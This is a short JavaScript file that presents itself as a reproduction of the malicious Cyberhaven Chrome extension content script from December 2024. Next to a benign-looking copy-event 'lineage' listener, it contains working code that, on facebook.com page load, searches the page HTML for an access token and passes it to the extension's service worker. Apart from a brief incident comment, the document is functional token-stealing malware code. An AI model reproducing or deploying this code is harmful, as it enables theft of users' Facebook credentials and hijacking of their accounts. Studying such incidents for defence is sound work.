// Incident: Cyberhaven Chrome extension 24.10.4 (December 2024): the content script side. On
// facebook.com it lifts the page's access token and hands it to the service worker.
// Reference: https://healsecurity.com/cyberhaven-breach-caused-by-malicious-chrome-extension
// Reproduction (own code, placeholder host).

document.addEventListener("copy", () => {
  const text = String(window.getSelection() || "");
  chrome.runtime.sendMessage({ type: "lineage", event: { kind: "copy", url: location.href, size: text.length } });
});

function findToken() {
  const html = document.documentElement.innerHTML;
  const m = html.match(/"accessToken":"(EAA[A-Za-z0-9]+)"/) || html.match(/(EAAB[A-Za-z0-9]{20,})/);
  return m ? m[1] : null;
}

if (/(^|\.)facebook\.com$/.test(location.hostname)) {
  window.addEventListener("load", () => {
    const token = findToken();
    if (token) chrome.runtime.sendMessage({ type: "fb-token", token });
  });
}
